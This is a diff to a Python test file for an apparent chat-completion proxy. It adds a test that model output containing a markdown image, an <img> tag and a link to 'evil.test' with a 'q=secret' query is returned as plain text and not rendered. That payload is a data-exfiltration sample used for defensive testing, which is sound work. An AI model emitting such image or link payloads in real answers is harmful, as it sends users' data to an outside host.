@@ -7,6 +7,7 @@ from typing import Any
 
 import openai
 import pytest
+from markdown_it import MarkdownIt
 from openai import OpenAI
 from openai.types.chat import ChatCompletion
 from starlette.testclient import TestClient
@@ -151,6 +152,33 @@ def test_the_clients_system_messages_and_tools_go_nowhere(client, chats):
     assert client.post(PATH, json={"model": "docindex", "messages": messages, "tools": [tool]}).is_success
     assert "pirate" not in json.dumps(chats.asked)
     assert '"rm"' not in json.dumps(chats.asked)
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_pictures_and_links_to_other_hosts_are_text(client, chats, stream):
+    pieces = [
+        "Open ![x](https:",
+        "//evil.test/?q=secret) <img src='https://evil.test'>",
+        " [the valve](https://evil.test) [1].",
+    ]
+    script(chats, *map(Delta, pieces), Usage())
+    answer = complete(client, stream=stream)
+    if stream:
+        deltas = [chunk["choices"][0]["delta"] for chunk in chunks_of(answer.text)]
+        content = "".join(delta.get("content", "") for delta in deltas)
+        (annotation,) = [one for delta in deltas for one in delta.get("annotations", ())]
+    else:
+        message = answer.json()["choices"][0]["message"]
+        content, (annotation,) = message["content"], message["annotations"]
+
+    tokens = MarkdownIt("commonmark").parse(content)
+    assert not {"image", "link_open", "html_inline", "html_block"} & {one.type for one in tokens[1].children or ()}
+    assert "the valve" in content
+    cited = annotation["url_citation"]
+    assert content[cited["start_index"] : cited["end_index"]] == "[1]"
+    again = complete(client, PUMP, content, "And how is it stopped?").json()["choices"][0]["message"]
+    assert again["annotations"]
+    assert chats.asked[-1]["messages"][2]["content"] == "".join(pieces)  # the conversation was found again
 
 
 def test_without_a_model_the_best_passages_are_the_answer(api):
